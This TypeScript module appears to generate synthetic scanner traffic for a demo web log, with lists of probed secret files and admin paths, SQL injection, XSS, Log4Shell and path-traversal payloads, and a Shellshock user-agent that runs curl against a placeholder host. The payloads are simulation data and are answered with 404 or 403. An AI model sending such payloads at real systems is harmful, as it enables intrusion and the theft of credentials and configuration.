import type { Client } from './demo-request.js';
import { hostingNetworks } from './networks.js';
import { weighted } from './random.js';
import { type Resource, resource } from './resource.js';
import type { Scene, TrafficSource } from './source.js';

/** What scanners try on any site, whatever it runs on. All of it answers 404 here, or 403 at the firewall. */
const wordPress = [
  '/wp-login.php',
  '/xmlrpc.php',
  '/wp-admin/',
  '/wp-admin/install.php',
  '/wp-json/wp/v2/users',
  '/blog/wp-login.php',
  '/wp-content/plugins/hellopress/wp_filemanager.php',
  '/wp-includes/wlwmanifest.xml',
];
const secrets = [
  '/.env',
  '/.env.local',
  '/.env.production',
  '/api/.env',
  '/.git/config',
  '/.git/HEAD',
  '/.aws/credentials',
  '/config.json',
  '/backup.sql',
  '/dump.sql.gz',
  '/backup.zip',
  '/.vscode/sftp.json',
  '/docker-compose.yml',
  '/.DS_Store',
  '/server-status',
  '/actuator/env',
  '/phpinfo.php',
  '/info.php',
];
const panels = [
  '/phpmyadmin/',
  '/pma/',
  '/admin/',
  '/administrator/',
  '/manager/html',
  '/boaform/admin/formLogin',
  '/cgi-bin/luci/;stok=/locale',
  '/HNAP1/',
  '/solr/admin/info/system',
  '/owa/auth/logon.aspx',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/shell.php',
  '/alfa.php',
  '/wso.php',
];
const injections = [
  '/search?q=1%27%20OR%20%271%27=%271',
  '/search?q=%27%20UNION%20SELECT%20null,version()--',
  '/product.php?id=1%20AND%20SLEEP(5)',
  '/c/camping/tents?page=-1%27%20ORDER%20BY%2050--',
  '/search?q=%3Cscript%3Ealert(1)%3C/script%3E',
  '/search?q=%24%7Bjndi:ldap://203.0.113.9/a%7D',
  '/index.php?page=../../../../etc/passwd',
  '/.%2e/%2e%2e/%2e%2e/etc/passwd',
  '/?cmd=id',
  '/api/stock/1000%20or%201=1',
];

const tools = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/102.0.5005.63 Safari/537.36',
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.96 Safari/537.36',
  'python-requests/2.32.3',
  'Go-http-client/1.1',
  'curl/8.5.0',
  'Mozilla/5.0 zgrab/0.x',
  'sqlmap/1.8.11#stable (https://sqlmap.org)',
  'Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))',
  'l9explore/1.2.2',
  'Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)',
  '() { :; }; /bin/bash -c "curl -s http://203.0.113.9/x"',
  '',
];

type Attack = { probes: string[]; burst: number; pauseMs: number; method: string };

const attacks = weighted<[Attack, number]>(
  [
    [{ probes: wordPress, burst: 12, pauseMs: 700, method: 'GET' }, 30],
    [{ probes: ['/wp-login.php', '/xmlrpc.php'], burst: 90, pauseMs: 300, method: 'POST' }, 4],
    [{ probes: secrets, burst: 18, pauseMs: 400, method: 'GET' }, 34],
    [{ probes: panels, burst: 12, pauseMs: 900, method: 'GET' }, 20],
    [{ probes: injections, burst: 50, pauseMs: 250, method: 'GET' }, 5],
    // A wordlist run against the server: hundreds of made-up names within minutes.
    [{ probes: [], burst: 420, pauseMs: 90, method: 'GET' }, 1.2],
    [{ probes: ['/account/sign-in'], burst: 80, pauseMs: 350, method: 'POST' }, 3],
  ],
  ([, weight]) => weight,
);

const words = [
  'old',
  'new',
  'test',
  'dev',
  'backup',
  'db',
  'data',
  'api',
  'private',
  'tmp',
  'log',
  'upload',
  'files',
  'src',
  'web',
  'site',
];
const endings = ['', '/', '.zip', '.tar.gz', '.bak', '.php', '.sql', '.txt', '1', '2'];

/** Scanners, credential stuffers and wordlist runs from rented servers. */
export function createScanners({ serve, random, site }: Scene, share: number): TrafficSource {
  const probes = new Map<string, Resource>([['/account/sign-in', { ...site.signIn, status: 401 }]]);

  function probe(path: string): Resource {
    let known = probes.get(path);
    if (known === undefined) {
      known = resource('probe', path, 0, 60, { status: 404 });
      probes.set(path, known);
    }
    return known;
  }

  const wordlistPath = () =>
    `/${random.pick(words)}${random.chance(0.3) ? `-${random.pick(words)}` : ''}${random.pick(endings)}`;

  return {
    share,
    // A little busier at night in Europe; bursts make the rest of the unevenness.
    rhythm: (at) => (new Date(at).getUTCHours() < 7 ? 1.25 : 0.9),
    visit(start, emit) {
      const [attack] = attacks(random);
      const network = random.pick(hostingNetworks);
      const client: Client = {
        ip: network.addresses(random),
        country: network.country,
        userAgent: random.pick(tools),
        protocol: 'HTTP/1.1',
        actor: 'scanner',
        bot: '',
      };
      const requests = 1 + Math.floor(random.exponential(attack.burst));
      // The firewall catches on after a while, and then refuses the address for good.
      const caughtAfter = random.chance(0.6) ? random.int(attack.burst) : Number.POSITIVE_INFINITY;
      let at = start;
      for (let i = 0; i < requests; i++) {
        const path = attack.probes.length === 0 ? wordlistPath() : random.pick(attack.probes);
        emit(
          serve(client, probe(path), at, {
            method: attack.method,
            ...(i >= caughtAfter ? { refusedWith: 403 } : {}),
          }),
        );
        at += random.exponential(attack.pauseMs);
      }
    },
  };
}
